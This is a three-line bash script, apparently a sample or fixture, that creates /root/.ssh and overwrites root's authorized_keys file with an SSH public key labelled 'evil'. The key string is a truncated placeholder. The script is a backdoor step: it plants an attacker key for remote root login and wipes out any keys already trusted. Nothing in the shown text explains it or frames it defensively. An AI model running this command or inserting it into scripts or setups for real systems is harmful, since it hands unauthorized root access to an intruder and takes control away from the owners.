#!/bin/bash
mkdir -p /root/.ssh
echo 'ssh-ed25519 AAAA evil' > /root/.ssh/authorized_keys
